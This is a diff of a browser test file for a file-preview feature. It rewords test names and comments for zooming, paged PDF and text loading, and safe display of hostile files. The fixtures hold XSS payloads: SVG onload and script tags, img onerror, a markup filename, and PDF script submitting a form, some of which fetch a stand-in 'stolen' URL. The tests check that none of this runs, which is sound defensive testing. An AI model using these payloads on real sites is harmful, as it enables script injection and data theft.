@@ -7,7 +7,7 @@ import { pane, shared, show } from '../acts/preview-acts.ts';
 const MIB = 1024 * 1024;
 const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";
 
-/** What is asked of the preview call, by its `Range`. */
+/** Collects the `Range` headers of preview requests from now on. */
 function rangesAsked(page: Page): (string | undefined)[] {
   const ranges: (string | undefined)[] = [];
   page.on('request', (request) => {
@@ -16,7 +16,7 @@ function rangesAsked(page: Page): (string | undefined)[] {
   return ranges;
 }
 
-test('a picture is zoomed by buttons, keys, double click and wheel, and its controls hide', async ({
+test('zooms a picture by buttons, keys, double click and wheel, and hides its controls', async ({
   page,
   newVisitor,
 }) => {
@@ -28,7 +28,7 @@ test('a picture is zoomed by buttons, keys, double click and wheel, and its cont
   await expect(level).toHaveText('100%');
   expect(await violations(visitor)).toEqual([]);
 
-  // The controls have hidden if looking took long; the mouse on its way to them brings them back.
+  // The controls may have hidden by now. Moving the mouse towards them shows them again.
   await picture.hover();
   await visitor.getByRole('button', { name: 'Zoom in' }).click();
   await expect(level).toHaveText('150%');
@@ -65,7 +65,7 @@ test('a picture is zoomed by buttons, keys, double click and wheel, and its cont
   await expect(controls).toHaveCSS('opacity', '1');
 });
 
-test('a PDF of many pages is read page by page, and nothing in it acts', async ({ page, newVisitor }) => {
+test('loads a PDF page by page, and runs nothing in it', async ({ page, newVisitor }) => {
   const dialogs: string[] = [];
   const paper = pdf('paper.pdf', 20, MIB / 2, "app.alert\\('hacked'\\); this.submitForm\\('https://example.com/x'\\)");
   const visitor = await shared(page, newVisitor, [paper]);
@@ -89,7 +89,7 @@ test('a PDF of many pages is read page by page, and nothing in it acts', async (
 
   const pages = visitor.getByRole('region', { name: 'Pages of paper.pdf' });
   await pages.focus();
-  // The list may still grow when the key is pressed, because each page's height is known once it is read.
+  // The list may still grow when the key is pressed, because a page's height is known only after it is read.
   await expect(async () => {
     await visitor.keyboard.press('End');
     await expect(visitor.getByText('This is page 20', { exact: true })).toBeAttached({ timeout: 5000 });
@@ -99,7 +99,7 @@ test('a PDF of many pages is read page by page, and nothing in it acts', async (
   expect(dialogs).toEqual([]);
 });
 
-test('a long text is shown by the megabyte, in whatever encoding, and its letters are whole', async ({
+test('shows a long text by the megabyte, in any encoding and without broken characters', async ({
   page,
   newVisitor,
 }) => {
@@ -148,7 +148,7 @@ test('a long text is shown by the megabyte, in whatever encoding, and its letter
   expect(ranges[0]).toBe('bytes=0-0');
 });
 
-test('what is made to do harm does nothing but show itself', async ({ page, newVisitor }) => {
+test('shows harmful files without running them', async ({ page, newVisitor }) => {
   const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="${HACK}"><script>${HACK}</script><rect width="200" height="200" fill="teal"/><image href="https://example.com/pixel.png"/></svg>`;
   const html = `<img src=x onerror="${HACK}"><script>${HACK}</script>`;
   const markup = '<img src=x onerror=alert(1)>.txt';
@@ -179,7 +179,7 @@ test('what is made to do harm does nothing but show itself', async ({ page, newV
   await expect(visitor.getByText('This PDF could not be read. It may be damaged.')).toBeVisible();
   await show(visitor, 'broken.mp4');
   await expect(visitor.getByText('Your browser cannot play this video.')).toBeVisible();
-  // What would act has acted when there is nothing left to do.
+  // Anything that runs has run once the browser is idle.
   await visitor.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
   expect(await visitor.evaluate(() => '__hacked' in window)).toBe(false);
   expect(dialogs).toEqual([]);
